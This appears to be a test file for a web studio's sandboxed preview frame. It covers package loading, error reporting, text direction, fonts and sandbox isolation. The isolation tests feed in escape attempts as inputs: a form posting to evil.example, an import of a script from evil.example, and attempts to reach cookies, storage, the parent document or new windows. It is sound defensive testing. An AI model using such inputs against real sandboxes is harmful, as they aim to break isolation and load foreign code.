// The preview frame in a real Chromium, driven as the studio drives it: from another origin, over a port.
import { createServer } from 'node:http';
import { BUNDLED_PACKAGE_NAMES, compile } from '@vys/compiler';
import { fontPath, PREVIEW_PATH } from '@vys/contract/pages/preview';
import type { Browser, Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import {
  type FrameMessage,
  findMessage,
  postToFrame,
  previewFrame,
  type Studio,
  speakInFrame,
  useStudio,
} from '../../../test/clients/preview-client.ts';
import { packagePage, packageUses } from '../../../test/public-pages/package-uses.ts';
import type { TestSite } from '../../../test/test-site.ts';

let page: Page;
let browser: Browser;
let test: TestSite;

useStudio((opened) => {
  ({ page, browser, test } = opened);
});

let lastId = 0;

async function render(jsx: string, css = '', fontFaces = ''): Promise<FrameMessage> {
  const compiled = compile({ jsx, css, metadata: { title: 'Anna', description: '' } });
  if (!compiled.ok) throw new Error(JSON.stringify(compiled.diagnostics));
  return await renderCode(compiled.code, compiled.css, fontFaces);
}

async function renderCode(code: string, css = '', fontFaces = ''): Promise<FrameMessage> {
  lastId += 1;
  const id = lastId;
  await postToFrame(page, { type: 'render', id, code, css, fontFaces, title: 'Anna' });
  return await message((one) => one.id === id);
}

const message = (wanted: (one: FrameMessage & { href?: string }) => boolean) =>
  findMessage(page, wanted);
const frame = () => previewFrame(page);
const text = () => frame().locator('#page').textContent();
const panelText = () =>
  frame().locator('vys-preview-panel div:visible').allInnerTexts().then(String);

describe('bundled packages', () => {
  it.each(BUNDLED_PACKAGE_NAMES)(
    'STUDIO-23 loads %s when a page imports it',
    { tags: 'slow' },
    async (name) => {
      const response = await render(packagePage(name));
      expect(response).toMatchObject({ type: 'rendered' });
      expect(await frame().locator('#shown').textContent()).toBe(packageUses[name].text);
    },
  );

  it('says which icon there is not', async () => {
    const code =
      'exports.default = () => require("react").createElement(require("lucide-react").Nope);';
    expect((await renderCode(code)).message).toContain('Nope is not an icon of lucide-react');
  });

  it('draws the latest of two pages that wait for the same package', { tags: 'slow' }, async () => {
    const jsx = (text: string) =>
      `import { format } from 'date-fns'; export default () => <p id="shown">${text}{typeof format}</p>;`;
    const responses = await Promise.all([render(jsx('first ')), render(jsx('second '))]);
    expect(responses.map(({ type }) => type)).toEqual(['failed', 'rendered']);
    expect(await frame().locator('#shown').textContent()).toBe('second function');
  });
});

describe('a player of another site', () => {
  it('is a facade that links to it', { tags: 'slow' }, async () => {
    await render(
      'export default () => <iframe src="https://www.youtube.com/embed/abc" title="Live" />;',
    );
    expect(await frame().locator('#page iframe').count()).toBe(0);
    await frame().getByRole('link', { name: 'Live' }).click();
    const received = await message(({ type }) => type === 'navigate');
    expect(received).toMatchObject({ href: 'https://www.youtube.com/watch?v=abc' });
  });
});

describe('what waits for its author', () => {
  it('is marked, and the rest is not', async () => {
    await render(
      'export default () => <main><a data-placeholder="">Instagram</a><a href="/b">Shop</a></main>;',
      'main { --accent: #0a7; --muted: #555; }',
    );
    const outlines = await frame().evaluate(
      "[...document.querySelectorAll('#page a')].map((a) => getComputedStyle(a).outlineStyle)",
    );
    expect(outlines).toEqual(['dashed', 'none']);
  });
});

describe('the direction of the page', () => {
  const shown = () =>
    frame().evaluate(
      "({ dir: document.documentElement.dir, lang: document.documentElement.lang, text: getComputedStyle(document.querySelector('#page p')).unicodeBidi })",
    );

  it.each([
    ['<main><h1>مرحبا بكم</h1><p>أصمم الحلي</p></main>', 'rtl', '', 'isolate'],
    ['<main lang="he"><h1>שלום לכולם</h1><p>Instagram</p></main>', 'rtl', 'he', 'plaintext'],
    ['<main><h1>Hello visitors</h1><p>שלום</p></main>', 'ltr', '', 'plaintext'],
    ['<main dir="rtl"><h1>Hello</h1><p>World</p></main>', 'rtl', '', 'isolate'],
    ['<main lang="en"><h1>Hello</h1><p>World</p></main>', 'ltr', 'en', 'isolate'],
  ])('of %s is that of its texts', async (jsx, dir, lang, text) => {
    await render(`export default () => ${jsx};`);
    expect(await shown()).toEqual({ dir, lang, text });
  });
});

describe('a render', () => {
  it('is shown and acknowledged with its height', { tags: 'slow' }, async () => {
    const response = await render(
      `import { useState } from 'react';
       import clsx from 'clsx';
       export default function Page() {
         const [count, setCount] = useState(0);
         return <main className={clsx('a', 'b')}><h1>Hello</h1><button onClick={() => setCount(count + 1)}>{count}</button></main>;
       }`,
      'main{height:700px}',
    );
    expect(response.type).toBe('rendered');
    expect(response.height).toBeGreaterThanOrEqual(700);
    await frame().locator('button').click();
    await expect.poll(text).toContain('1');
    expect(await frame().locator('main').getAttribute('class')).toBe('a b');
  });

  it('is acknowledged when it is the same again', { tags: 'slow' }, async () => {
    const jsx = 'export default () => <p>Same</p>;';
    const responses = [await render(jsx), await render(jsx), await render(jsx)];
    expect(responses.map((response) => response.type)).toEqual(Array(3).fill('rendered'));
  });

  it('is acknowledged in a hidden tab, where nothing is painted', async () => {
    await frame().evaluate('globalThis.requestAnimationFrame = () => 0');
    const jsx = `import { useEffect, useState } from 'react';
      export default function Page() {
        const [text, setText] = useState('before');
        useEffect(() => setText('after'), []);
        return <p>{text}</p>;
      }`;
    expect((await render(jsx)).type).toBe('rendered');
    await expect.poll(text).toBe('after');
  });

  it('takes its fonts from the pages origin', { tags: 'slow' }, async () => {
    const url = test.origin + fontPath('files/sora-latin-wght-normal.woff2');
    await render(
      'export default () => <p>Font</p>;',
      'p{font-family:Sora}',
      `@font-face{font-family:Sora;src:url("${url}") format("woff2")}`,
    );
    await expect
      .poll(() =>
        frame().evaluate('document.fonts.ready.then(() => document.fonts.check("16px Sora"))'),
      )
      .toBe(true);
  });
});

describe('a failing page', () => {
  const good = 'export default () => <p>Good</p>;';

  it.each([
    [
      'while it is drawn',
      'export default () => { throw new TypeError("no such thing"); };',
      'TypeError: no such thing',
    ],
    [
      'at its top level',
      'const a = undefinedName; export default () => <p>{a}</p>;',
      'ReferenceError: undefinedName is not defined',
    ],
    [
      'in a part of it',
      'const Part = () => null.x; export default () => <div><Part /></div>;',
      'TypeError',
    ],
  ])(
    'STUDIO-20 %s says Runtime Error and leaves the last good one standing',
    async (_, jsx, words) => {
      await render(good, 'p{color:rgb(1, 2, 3)}');
      const response = await render(jsx, 'p{color:red}');
      expect(response.type).toBe('failed');
      expect(response.message).toContain(words);
      expect(await text()).toBe('Good');
      expect(
        await frame()
          .locator('#page p')
          .evaluate('getComputedStyle(document.querySelector("p")).color'),
      ).toBe('rgb(1, 2, 3)');
      expect(await panelText()).toContain('Runtime Error');
      await render(good);
      expect(await panelText()).not.toContain('Runtime Error');
    },
  );

  it('says what it says itself in the language of the studio', async () => {
    await speakInFrame(page, {
      runtimeError: 'Laufzeitfehler',
      notBundled: '„{}“ ist nicht eingebaut',
      wouldOpen: 'Würde {} öffnen',
    });
    const response = await renderCode('require("left-pad$&")');
    expect(response).toMatchObject({ message: 'Error: „left-pad$&“ ist nicht eingebaut' });
    expect(await panelText()).toContain('Laufzeitfehler');
    expect(await panelText()).not.toContain('Runtime Error');
    await render('export default () => <a href="https://shop.example/x">Shop</a>;');
    await frame().locator('a').click();
    await expect.poll(panelText).toContain('Würde https://shop.example/x öffnen');
    const unnamed = await renderCode('module.exports = {}');
    expect(unnamed.message).toBe('Error: The page has no default export to show.');
  });

  it('names an import that is not bundled', async () => {
    const response = await renderCode('require("left-pad")');
    expect(response).toMatchObject({
      type: 'failed',
      message: 'Error: "left-pad" is not a built-in package',
    });
  });

  it.each([
    ['in a handler', 'onClick={() => { throw new Error("late"); }}'],
    ['in a promise', 'onClick={async () => { throw new Error("late"); }}'],
    ['in an update', 'onClick={() => setBroken(true)}'],
  ])('tells of a fault %s', { tags: 'slow' }, async (_, handler) => {
    await render(`import { useState } from 'react';
      export default function Page() {
        const [broken, setBroken] = useState(false);
        if (broken) throw new Error('late');
        return <button ${handler}>Press</button>;
      }`);
    await frame().locator('button').click();
    expect((await message((one) => one.type === 'error')).message).toBe('Error: late');
    await expect.poll(text).toBe('Press');
    await expect.poll(panelText).toContain('Runtime Error');
  });
});

describe('a page that wants out', () => {
  it('does not follow links, but tells where they lead', { tags: 'slow' }, async () => {
    await render('export default () => <a href="https://shop.example/x">Shop</a>;');
    await frame().locator('a').click();
    expect(await message((one) => one.type === 'navigate')).toMatchObject({
      href: 'https://shop.example/x',
    });
    expect(await panelText()).toContain('Would open https://shop.example/x');
    expect(frame().url()).toContain(PREVIEW_PATH);
  });

  it('sends no form', { tags: 'slow' }, async () => {
    await render(
      'export default () => <form action="https://evil.example/" method="post"><button>Send</button></form>;',
    );
    await frame().locator('button').click();
    await render('export default () => <p>Still here</p>;');
    expect(await text()).toBe('Still here');
  });

  it.each<[string, string]>([
    ['fetch', 'fetch("/anna").then(() => "out", () => "kept in")'],
    [
      'a foreign script',
      '((url) => import(url))("https://evil.example/x.js").then(() => "out", () => "kept in")',
    ],
    [
      'local storage',
      '(() => { try { localStorage.x = 1; return "out"; } catch { return "kept in"; } })()',
    ],
    [
      'cookies',
      '(() => { try { document.cookie = "a=b"; return document.cookie ? "out" : "kept in"; } catch { return "kept in"; } })()',
    ],
    [
      'the studio',
      '(() => { try { return parent.document ? "out" : ""; } catch { return "kept in"; } })()',
    ],
    ['a new window', 'window.open("about:blank") ? "out" : "kept in"'],
    ['its own origin', 'self.origin === "null" ? "kept in" : "out"'],
  ])('cannot use %s', { tags: 'slow' }, async (_, expression) => {
    await render('export default () => <p>Hello</p>;');
    expect(await frame().evaluate(expression)).toBe('kept in');
  });

  it('can only be framed by the studio', { tags: 'slow' }, async () => {
    const otherServer = createServer((_request, response) => {
      response.setHeader('content-type', 'text/html');
      response.end(`<iframe src="${test.origin}${PREVIEW_PATH}"></iframe>`);
    });
    await new Promise<void>((resolve) => otherServer.listen(0, 'localhost', resolve));
    const address = otherServer.address() as { port: number };
    const visit = await browser.newPage();
    await visit.goto(`http://localhost:${address.port}/`);
    const text = await visit
      .frames()[1]
      ?.evaluate('document.querySelector("#page") !== null')
      .catch(() => false);
    expect(text ?? false).toBe(false);
    await visit.close();
    otherServer.close();
  });
});

it('an endless loop in a page stops the frame and nothing else', { tags: 'slow' }, async () => {
  const code = 'exports.default = () => { for (;;) {} };';
  const endless = { type: 'render', id: 0, code, css: '', fontFaces: '', title: '' };
  await postToFrame(page, endless);
  expect(
    await page.evaluate('new Promise((resolve) => setTimeout(() => resolve(6 * 7), 300))'),
  ).toBe(42);
});

it('says it is ready once per load, with its nonce, from an opaque origin', {
  tags: 'slow',
}, async () => {
  const readies = await page.evaluate(() => (globalThis as unknown as Studio).readies);
  expect(readies).toEqual([
    { data: { type: 'vys-preview-ready', nonce: 'n-1' }, origin: 'null', known: true },
  ]);
});
